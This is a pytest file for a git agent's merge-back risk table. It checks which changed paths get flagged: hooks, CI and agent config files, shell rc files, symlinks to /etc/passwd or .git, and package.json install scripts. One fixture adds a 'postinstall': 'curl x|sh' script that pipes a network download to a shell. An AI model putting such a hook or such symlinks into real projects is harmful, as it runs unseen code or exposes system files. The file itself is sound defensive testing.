"""The risk table: what is flagged, what is not."""

from __future__ import annotations

import pytest

from git_agent.gittree import BLOB as MODE_FILE
from git_agent.gittree import EXEC as MODE_EXEC
from git_agent.gittree import GITLINK as MODE_GITLINK
from git_agent.gittree import LINK as MODE_LINK
from git_agent.mergeback import risk_table, risks
from git_agent.mergeback.risks import assess


def flagged(path: str, **kw: object) -> list[str]:
    kw.setdefault("old_mode", MODE_FILE)
    kw.setdefault("new_mode", MODE_FILE)
    kw.setdefault("new_data", b"x\n")
    return assess(path=path, **kw)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "path",
    [
        ".husky/pre-commit", "web/.husky/pre-push", ".pre-commit-config.yaml", "lefthook.yml",
        ".githooks/pre-commit", ".gitattributes", "sub/.gitattributes", ".gitmodules",
        ".envrc", "sub/.envrc", ".env", ".env.local", ".github/workflows/ci.yml",
        ".github/workflows/sub/x.yaml", ".gitlab-ci.yml", ".circleci/config.yml", "Jenkinsfile",
        ".vscode/tasks.json", ".VSCode/settings.json", "proj.code-workspace", ".idea/workspace.xml",
        ".devcontainer/devcontainer.json", ".claude/settings.json", ".claude/commands/x.md",
        ".mcp.json", "CLAUDE.md", "AGENTS.md", "pkg/AGENTS.md", "Makefile", "src/Makefile",
        "rules.mk", "CMakeLists.txt", "setup.py", "pyproject.toml", "tests/conftest.py",
        "Dockerfile", "docker/Dockerfile.dev", "docker-compose.yml", "build.rs", "Cargo.toml",
        "requirements-dev.txt", "yarn.lock", "sitecustomize.py", "x.pth", "gradlew",
        "gradle/wrapper/gradle-wrapper.properties", ".cargo/config.toml", "sub/.git",
        "vendor/lib/.git/config", ".cursor/rules/a.mdc", "Gemfile", "x.gemspec", "flake.nix",
    ],
)
def test_sensitive_paths_are_flagged(path: str) -> None:
    assert flagged(path), path


@pytest.mark.parametrize(
    "path",
    [
        "src/main.py", "README.md", "docs/index.rst", "lib/x.js", "github/workflows.txt",
        "my.vscode/notes", "src/claude.py", "Makefile.txt.bak/readme", "tests/test_x.py",
        "env.py", "src/environment.ts", "make.py", "docker.md",
    ],
)
def test_plain_source_edits_are_not_flagged(path: str) -> None:
    assert flagged(path) == [], path


def test_every_rule_has_a_one_line_reason() -> None:
    for rule in risks.RULES:
        assert rule.reason and "\n" not in rule.reason and len(rule.reason) < 90


def test_matching_is_case_insensitive() -> None:
    assert flagged(".GitHub/Workflows/ci.yml") == flagged(".github/workflows/ci.yml")


def test_becomes_executable() -> None:
    assert "becomes executable" in flagged("src/a.sh", new_mode=MODE_EXEC)
    assert "new executable file" in flagged("src/a.sh", old_mode=0, new_mode=MODE_EXEC)
    assert flagged("src/a.sh", old_mode=MODE_EXEC, new_mode=MODE_EXEC) == []
    assert flagged("src/a.sh", old_mode=MODE_EXEC, new_mode=MODE_FILE) == []


@pytest.mark.parametrize(
    ("path", "target", "flag"),
    [
        ("a/link", b"/etc/passwd", "absolute"),
        ("a/link", b"../../x", "outside"),
        ("link", b"../x", "outside"),
        ("a/link", b"../.git/config", ".git"),
        ("a/link", b"../git~1/config", ".git"),  # .git's NTFS short name
        ("link", b"sub/.GIT./hooks", ".git"),
        ("a/link", b"../b/c", None),
        ("link", b"src/x", None),
        ("a/link", b"./x/../y", None),
    ],
)
def test_symlink_targets(path: str, target: bytes, flag: str | None) -> None:
    got = flagged(path, old_mode=0, new_mode=MODE_LINK, new_data=target)
    if flag is None:
        assert got == []
    else:
        assert len(got) == 1 and flag in got[0]


def test_binary_files() -> None:
    assert any("binary" in r for r in flagged("img.png", new_data=b"\x89PNG\r\n\x00\x00"))
    assert flagged("img.txt", new_data=b"text" * 3000 + b"\0") == []  # beyond git's sniff window


def test_submodule() -> None:
    assert flagged("vendor/lib", old_mode=MODE_GITLINK, new_mode=MODE_GITLINK, new_data=None)


def test_package_json_only_flags_keys_that_run_code() -> None:
    old = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'
    bump = b'{"name": "x", "version": "1.0.1", "scripts": {"test": "jest"}}'
    evil = old.replace(b'"jest"}', b'"jest", "postinstall": "curl x|sh"}')
    deps = old.replace(b"}}", b'}, "dependencies": {"a": "1"}}')
    assert flagged("package.json", old_data=old, new_data=bump) == []
    assert flagged("package.json", old_data=old, new_data=evil) == [
        "package.json scripts: npm runs them"]
    assert flagged("web/package.json", old_data=old, new_data=deps) == [
        "package.json dependencies: installs run their scripts"]
    assert "parse" in flagged("package.json", old_data=old, new_data=b"{oops")[0]
    assert flagged("package.json", old_mode=0, old_data=None, new_data=evil)


def test_reasons_are_not_repeated() -> None:
    got = flagged(".github/workflows/run.sh", old_mode=0, new_mode=MODE_EXEC)
    assert len(got) == len(set(got)) == 2


def test_the_rule_table_lookup_matches_each_rule_one_by_one() -> None:
    """path_risks sorts RULES for speed; it must answer as matching every rule in turn."""
    import random

    def one_by_one(path: str) -> list[str]:
        out: list[str] = []
        for rule in risks.RULES:
            if rule.reason not in out and risks._match(rule.pattern, path):
                out.append(rule.reason)
        return out

    parts = [r.pattern.replace("**/", "").replace("/**", "").replace("*", "x")
             for r in risks.RULES] + ["src", "a", "x.py", "Makefile", ".GITHUB", "Workflows"]
    rnd = random.Random(7)
    paths = {"/".join(rnd.choice(parts) for _ in range(rnd.randint(1, 5))) for _ in range(20000)}
    assert [p for p in paths if risks.path_risks(p) != one_by_one(p)] == []
    assert sum(1 for p in paths if one_by_one(p)) > 1000  # the sample does hit rules


# Issue 12.6: the rows added for agents' project configs, tools that run or pick programs, and
# shell start-up files of a dotfiles repository. One case per row, with the words it must say.
NEW_ROWS = [
    ("opencode.json", "opencode"), ("opencode.jsonc", "opencode"),
    (".opencode/agent/x.md", "opencode"), ("crush.json", "crush"), (".crush.json", "crush"),
    (".crush/x", "crush"), ("CRUSH.md", "crush"), (".qwen/settings.json", "qwen"),
    ("QWEN.md", "qwen"), (".goosehints", "goose"), (".goose/recipe.yaml", "goose"),
    ("AGENT.md", "amp"), (".amp/settings.json", "amp"), ("AGENTS.override.md", "codex"),
    (".aider.model.settings.yml", "aider"), (".aider.model.metadata.json", "aider"),
    ("composer.json", "Composer"), ("composer.lock", "PHP"), ("bunfig.toml", "Bun"),
    (".nvimrc", "exrc"), (".vimrc", "exrc"), (".gvimrc", "exrc"), (".lazy.lua", "lazy.nvim"),
    (".zed/tasks.json", "Zed"), (".zed/settings.json", "Zed"), (".bazelrc", "Bazel"),
    (".bazelversion", "bazel"), ("MODULE.bazel", "Bazel"), ("WORKSPACE", "Bazel"),
    ("WORKSPACE.bazel", "Bazel"), ("mise.local.toml", "mise"), (".mise.local.toml", "mise"),
    ("mise.dev.toml", "mise"), (".mise.dev.toml", "mise"), (".config/mise/config.toml", "mise"),
    (".config/mise.toml", "mise"), ("mise/config.toml", "mise"), (".python-version", "Python"),
    (".node-version", "node"), (".nvmrc", "nvm"), (".ruby-version", "Ruby"),
    ("Taskfile.yaml", "Task"), ("Taskfile.yml", "Task"), ("taskfile.yaml", "Task"),
    ("Taskfile.dist.yml", "Task"), ("Taskfile.dist.yaml", "Task"), (".justfile", "just"),
    ("Justfile", "just"), ("deno.json", "Deno"), ("deno.jsonc", "Deno"),
    ("pnpm-workspace.yaml", "pnpm"), (".bashrc", "start-up"), (".bash_profile", "start-up"),
    (".bash_login", "start-up"), (".bash_logout", "start-up"), (".profile", "start-up"),
    (".zshrc", "start-up"), (".zshenv", "start-up"), (".zprofile", "start-up"),
    (".zlogin", "start-up"), (".zlogout", "start-up"), (".kshrc", "start-up"),
    (".cshrc", "start-up"), (".tcshrc", "start-up"), (".inputrc", "readline"),
    (".config/fish/config.fish", "fish"), ("dotfiles/.config/fish/conf.d/x.fish", "fish"),
    (".ssh/config", "ProxyCommand"), (".tmux.conf", "tmux"), (".helix/languages.toml", "Helix"),
    (".dir-locals.el", "Emacs"), ("sub/.dir-locals-2.el", "Emacs"),
    ("x.sublime-project", "Sublime"), (".vim/coc-settings.json", "coc"),
    (".gdbinit", "gdb"), (".lldbinit", "lldb"), (".pdbrc", "pdb"), ("Procfile", "foreman"),
    ("Brewfile", "Homebrew"), ("go.work", "Go workspace"), ("rust-toolchain", "Rust"),
    ("rust-toolchain.toml", "Rust"), ("mvnw", "Maven"), (".mvn/extensions.xml", "Maven"),
    (".mvn/wrapper/maven-wrapper.properties", "Maven"), (".bundle/config", "Bundler"),
    ("home/.ssh/config", "ProxyCommand"), ("app/.bundle/config", "Bundler"),
    ("a/.vim/coc-settings.json", "coc"),
]


@pytest.mark.parametrize(("path", "word"), NEW_ROWS)
def test_new_rows_are_flagged(path: str, word: str) -> None:
    got = flagged(path)
    assert any(word.lower() in r.lower() for r in got), (path, got)


def test_every_presets_project_config_is_flagged() -> None:
    from git_agent.settings.presets import PRESETS

    for preset in PRESETS.values():
        assert preset.project, f"preset {preset.name} declares no project config"
        for path in preset.project:
            probe = path + "x.json" if path.endswith("/") else path
            assert flagged(probe), (preset.name, probe)
            assert flagged("sub/" + probe), (preset.name, "sub/" + probe)


def test_a_new_presets_project_config_gets_a_row(monkeypatch: pytest.MonkeyPatch) -> None:
    from git_agent.settings import presets

    new = presets.Preset("newagent", project=(".newagent/", "NEWAGENT.md"))
    monkeypatch.setitem(presets.PRESETS, "newagent", new)
    rows = {r.pattern: r.reason for r in risk_table._preset_rules()}
    assert "newagent" in rows["**/.newagent/**"] and "newagent" in rows["NEWAGENT.md"]


FOREIGN = ["sub/.git", "vendor/lib/.git/config", ".GIT/config", "git~1/config", "a/GIT~1/HEAD",
           ".git./config", ".git /x", ".g\u200cit/config", ".gitmodules", "sub/.gitmodules",
           ".GITMODULES", "gitmod~1", "sub/.git\\config"]


@pytest.mark.parametrize("path", FOREIGN)
def test_spellings_of_dotgit_and_gitmodules_are_the_highest_risk(path: str) -> None:
    got = flagged(path, old_mode=0)
    assert got and got[0].startswith(risks.FOREIGN_GIT), (path, got)
    assert flagged(path, old_mode=MODE_FILE, new_mode=0) == [] or \
        not flagged(path, new_mode=0)[0].startswith(risks.FOREIGN_GIT)  # deleting one is not


@pytest.mark.parametrize("path", [".github/x", "gitx/config", ".gitignore", ".gitattributes",
                                  "my.git/config", "git~2x/HEAD", ".gitmodules.bak"])
def test_names_near_dotgit_are_not_foreign(path: str) -> None:
    assert not any(r.startswith(risks.FOREIGN_GIT) for r in flagged(path)), path


def test_symlink_targets_are_quoted() -> None:
    got = flagged("l", old_mode=0, new_mode=MODE_LINK, new_data=b"/etc/\x1b[2Kpasswd\r")
    assert got == ['symlink to an absolute path: "/etc/\\033[2Kpasswd\\r"']


def test_hooks_dir_changes_are_a_risk_at_any_depth_and_above() -> None:
    """security.md rule 3: under the repository's own core.hooksPath, or replacing a directory
    on the way to it (a file or symlink there); b"" is the whole worktree."""
    hooks = (b"tools/hooks",)
    for path in ("tools/hooks/pre-commit", "tools/hooks/lib/x.sh", "TOOLS/Hooks/pre-push",
                 "tools", "tools/hooks"):
        assert risks.HOOKS in risks.assess(path=path, old_mode=0, new_mode=0o100644,
                                           hooks=hooks), path
    for path in ("tools/hooksx", "tools/other/pre-commit", "hooks/pre-commit", "toolsa/hooks/x"):
        assert risks.HOOKS not in risks.assess(path=path, old_mode=0, new_mode=0o100644,
                                               hooks=hooks), path
    assert risks.hooks_risk(b"anything/at/all", (b"",)) == risks.HOOKS
    assert risks.hooks_risk(b"tools/hooks/x", ()) is None
